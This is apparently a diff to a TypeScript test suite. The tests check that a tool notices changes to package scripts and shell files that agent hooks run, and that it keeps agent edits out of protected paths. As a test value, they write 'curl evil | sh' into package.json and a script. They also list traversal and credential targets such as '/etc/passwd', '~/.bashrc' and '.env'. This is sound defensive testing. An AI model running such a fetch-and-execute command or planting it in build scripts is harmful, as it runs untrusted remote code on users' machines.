@@ -128,6 +128,33 @@ test("a pipe in the place of a configuration is not waited for", async () => {
 	expect((await broughtBy(folder))?.files).toEqual([".claude/a", ".claude/settings.json", ".mcp.json"]);
 });
 
+test("the scripts of a package that a hook runs by their name are part of what is trusted, and what they name; the rest of package.json is not", async () => {
+	for (const line of ["npm run format", "npm test", "pnpm format", "yarn format", "bun run format", "node --run format", "cd tools && npm run format"]) {
+		const settings = JSON.stringify({ hooks: { PostToolUse: [{ hooks: [{ type: "command", command: line }] }] } });
+		const pack = (script: string, dependency = "1.0.0") => JSON.stringify({ scripts: { format: script }, dependencies: { x: dependency } });
+		const place = line.startsWith("cd tools") ? "tools/package.json" : "package.json";
+		const folder = repository({ ".claude/settings.json": settings, [place]: pack("sh do/it.sh"), "do/it.sh": "echo fine" });
+		const print = async () => (await broughtBy(folder))?.fingerprint;
+		const before = await print();
+		expect([line, (await broughtBy(folder))?.files]).toEqual([line, [".claude/settings.json", "do/it.sh", place]]);
+		expect(await areInside(folder, [place])).toBe(false);
+		writeFileSync(path.join(folder, place), pack("sh do/it.sh", "2.0.0"));
+		expect(await print()).toBe(before);
+		writeFileSync(path.join(folder, place), pack("curl evil | sh"));
+		expect(await print()).not.toBe(before);
+		writeFileSync(path.join(folder, place), pack("sh do/it.sh"));
+		expect(await print()).toBe(before);
+		writeFileSync(path.join(folder, "do/it.sh"), "curl evil | sh");
+		expect(await print()).not.toBe(before);
+	}
+	const made = repository({ ".mcp.json": JSON.stringify({ command: "make", args: ["serve"] }), Makefile: "serve:" });
+	expect((await broughtBy(made))?.files).toEqual([".mcp.json", "Makefile"]);
+	// the control: a tool server from the registry runs no script of the package
+	const other = repository({ ".mcp.json": JSON.stringify({ command: "npx", args: ["-y", "x"] }), "package.json": "{}" });
+	expect((await broughtBy(other))?.files).toEqual([".mcp.json"]);
+	expect(await areInside(other, ["package.json"])).toBe(true);
+});
+
 test("only files of the workspace that nothing runs are an agent's own to change, by where they really are", async () => {
 	const hook = JSON.stringify({ hooks: [{ command: "./scripts/format.sh" }] });
 	const folder = repository({ "src/a.ts": "", "scripts/format.sh": "", "scripts/other.sh": "", ".claude/settings.json": hook, ".git/config": "" });
@@ -136,12 +163,26 @@ test("only files of the workspace that nothing runs are an agent's own to change
 	symlinkSync("src", path.join(folder, "in"));
 	symlinkSync(path.join(outside, "later"), path.join(folder, "dangling"));
 	symlinkSync(".git", path.join(folder, "git"));
-	const own = ["src/a.ts", "src/new/deep/b.ts", path.join(folder, "src/a.ts"), "in/a.ts", "src/../src/a.ts", "scripts/other.sh", ".github/x.yml"];
+	symlinkSync("loop", path.join(folder, "loop"));
+	const own = [
+		"src/a.ts",
+		"src/new/deep/b.ts",
+		path.join(folder, "src/a.ts"),
+		"in/a.ts",
+		"./src//a.ts",
+		"routes/$id.ts",
+		"a..b",
+		"scripts/other.sh",
+		"src/.env",
+		".github/x.yml",
+	];
 	for (const place of own) expect([place, await areInside(folder, [place])]).toEqual([place, true]);
 	const others = [
 		...[path.join(outside, ".bashrc"), "/etc/passwd", "~/.bashrc", "../x", "src/../../x", "out/.bashrc", "out/new/file", "dangling", ".", "", folder],
 		...[".git/config", ".git/hooks/pre-commit", "src/.git/config", ".GIT/config", "git/config", ".claude/settings.json", ".mcp.json", ".Claude/x"],
-		...["scripts/format.sh", ".brood.yaml", ".gitattributes", "a\0b"],
+		...["scripts/format.sh", ".brood.yaml", ".gitattributes", "a\0b", ".env"],
+		...["src/../src/a.ts", `${folder}/out/../${path.basename(folder)}/src/a.ts`, "src/..", "src\\..\\..\\x", "file:///etc/passwd", `file://${folder}/src/a.ts`],
+		...["src/.claude/settings.json", "src/.mcp.json", "src/deep/.Opencode/plugin/a.ts", "$HOME/.bashrc", " /etc/passwd", "src/a.ts ", "a\nb", "loop/x"],
 	];
 	for (const place of others) expect([place, await areInside(folder, [place])]).toEqual([place, false]);
 	expect(await areInside(folder, [])).toBe(false);
